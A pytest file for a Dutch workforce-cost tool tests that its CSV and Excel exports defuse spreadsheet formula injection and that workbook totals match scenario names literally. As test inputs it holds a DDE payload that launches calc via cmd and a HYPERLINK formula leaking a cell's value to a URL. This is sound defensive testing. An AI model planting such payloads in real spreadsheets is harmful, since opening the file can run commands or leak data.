"""Names from someone else's file stay names in a spreadsheet (issue 18, point 3).

A CSV cell `=HYPERLINK(...)` or `+cmd|' /C calc'!A0` runs when the file is opened: text a
spreadsheet would read as a formula gets a `'` before it (OWASP); numbers never do. The
workbook writes names as text, and its totals count the rows whose scenario is exactly the
total's name: scenarios `ex*`, `<>basis` or `b?sis` are no patterns, `Extra` is not `extra`.
"""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal as D

import openpyxl
import pytest

from brutonetto.output.render import csv_waarde
from brutonetto.output.werkboek import RESULTAAT
from test_werkboek import gelijk, herreken

HYPERLINK = '=HYPERLINK("http://example.com/?x="&A1,"klik")'
CALC = "+cmd|' /C calc'!A0"
SOM = "@SUM(1)"
MIN = "-2+3"


def test_a_cell_is_quoted_when_it_starts_as_a_formula_would():
    """Input strips a name's leading tab or CR; a cell that starts with one is quoted all the same."""
    for tekst in (HYPERLINK, CALC, SOM, MIN, "\t=1+1", "\r=1+1", "=", "-", " =1"):  # ` =1`: trimmed on import
        assert csv_waarde(tekst, False) == "'" + tekst
    for tekst in ("Jurist", "a=1", "'=1", "", "1-2"):
        assert csv_waarde(tekst, True) == tekst
    assert csv_waarde(D("-1.5"), False) == "-1.5" and csv_waarde(D("-1.5"), True) == "-1,5"


def _csv(cli, *args: str) -> list[dict[str, str]]:
    nl = "nl" in args
    tekst = cli("compute", *args, "--format", "csv").stdout
    return list(csv.DictReader(io.StringIO(tekst.lstrip("\ufeff"), newline=""), delimiter=";" if nl else ","))


@pytest.mark.parametrize("dialect", ["en", "nl"])
def test_csv_text_that_would_be_a_formula_gets_a_quote_numbers_do_not(cli, dialect):
    cli.write("e.yaml", f"""\
        eenheid: {json.dumps(SOM)}
        scenarios:
          {json.dumps(CALC)}: {{aftrek: {{overig: 231}}}}
        functies:
          - {{functie: {json.dumps(HYPERLINK)}, fte: 10, beschikbare_uren: 1631, aftrek: {{overig: 331}}}}
          - {{functie: {json.dumps(MIN)}, fte: 5, beschikbare_uren: 1631, aftrek: {{overig: 331}}}}
          - {{functie: "Jurist = 1", fte: 1, beschikbare_uren: 1631}}
    """)
    rijen = _csv(cli, "e.yaml", "--csv-dialect", dialect)
    assert [r["functie"] for r in rijen if r["scenario"] == "basis"] == [
        "'" + HYPERLINK, "'" + MIN, "Jurist = 1"
    ]
    assert {r["scenario"] for r in rijen} == {"basis", "'" + CALC}
    assert {r["eenheid"] for r in rijen} == {"'" + SOM}
    # numbers stay numbers, a negative one too: 100 hours less overig is fewer fte (10 x (1300 / 1400 - 1))
    extra = [r["extra_fte"] for r in rijen if r["scenario"] != "basis"][:2]
    assert extra == (["-0,714286", "-0,357143"] if dialect == "nl" else ["-0.714286", "-0.357143"])
    # JSON keeps every name exactly
    records = cli.json("compute", "e.yaml")
    assert [r["functie"] for r in records if r["scenario"] == "basis"][:2] == [HYPERLINK, MIN]


SCENARIOS = ["ex*", "extra", "Extra", "<>basis", "b?sis", "~x", "=1+1", "it's \"q\"", "basis*"]


def _scenario_eenheid(cli) -> None:
    regels = "\n".join(f"  {json.dumps(naam)}: {{aftrek: {{leren: {10 * (i + 1)} uur}}}}" for i, naam in enumerate(SCENARIOS))
    cli.write("s.yaml", "eenheid: E\nscenarios:\n" + regels + """
functies:
  - {functie: "=HYPERLINK(\\"http://x\\")", fte: 10, kosten_per_fte: 70000, beschikbare_uren: 1631, aftrek: {overig: 331}}
  - {functie: Y, fte: 5, kosten_per_fte: 60000, beschikbare_uren: 1631, aftrek: {overig: 300}}
""")


def test_workbook_totals_match_scenario_names_exactly_after_recalculation(cli, tmp_path):
    _scenario_eenheid(cli)
    records = cli.json("compute", "s.yaml")
    cli("compute", "s.yaml", "-f", "xlsx", "-o", "s.xlsx")
    (tmp_path / "oud.yaml").write_text("eenheid: E\nfuncties:\n  - {functie: Y, fte: 5, beschikbare_uren: 1631}\n",
                                       encoding="utf-8")
    cli("compare", "oud.yaml", "s.yaml", "-f", "xlsx", "-o", "v.xlsx")  # a total over the 'ja' rows only
    herrekend = herreken([tmp_path / "s.xlsx", tmp_path / "v.xlsx"], tmp_path)

    blad = openpyxl.load_workbook(herrekend["s.xlsx"], data_only=True)["Resultaat"]
    totalen = {r[2]: dict(zip(RESULTAAT, r)) for r in blad.iter_rows(min_row=2, values_only=True) if r[0] == "Totaal"}
    assert set(totalen) == {"basis", *SCENARIOS}
    for naam in ("basis", *SCENARIOS):
        eigen = [r for r in records if r["scenario"] == naam]
        assert totalen[naam]["Fte"] == 15  # SUMIF made ex* 60, <>basis 135, b?sis and basis* 30
        assert gelijk(totalen[naam]["Extra fte"], sum(D(str(r["extra_fte"] or 0)) for r in eigen)), naam
        assert gelijk(totalen[naam]["Extra kosten"], sum(D(str(r["extra_kosten"] or 0)) for r in eigen)), naam

    for bestand in ("s.xlsx", "v.xlsx"):  # every recalculated total is the total brutonetto computed
        bewaard = openpyxl.load_workbook(tmp_path / bestand, data_only=True)["Resultaat"]
        opnieuw = openpyxl.load_workbook(herrekend[bestand], data_only=True)["Resultaat"]
        for oud, nieuw in zip(bewaard.iter_rows(values_only=True), opnieuw.iter_rows(values_only=True)):
            if oud[0] == "Totaal":
                for a, b in zip(oud, nieuw):
                    assert a == b or gelijk(b, a), (bestand, oud[2], a, b)

    # names are text, never a formula
    formules = openpyxl.load_workbook(tmp_path / "s.xlsx")
    for blad_naam in ("Invoer", "Resultaat"):
        cel = formules[blad_naam]["A2"]
        assert (cel.value, cel.data_type) == ('=HYPERLINK("http://x")', "s")
    scenario_cellen = {c.value: c.data_type for c in formules["Resultaat"]["C"] if c.value in SCENARIOS}
    assert scenario_cellen == {naam: "s" for naam in SCENARIOS}


def test_a_formula_after_leading_blanks_is_prefixed_too():
    """A second security probe: ` =1+3` became the formula =1+3 in a spreadsheet that trims
    blanks on import."""
    from brutonetto.output.render import csv_waarde

    assert [csv_waarde(t, False) for t in (" =1+3", "\n=1+5", "\u00a0@SUM(1)", " Jurist")] == [
        "' =1+3", "'\n=1+5", "'\u00a0@SUM(1)", " Jurist"]
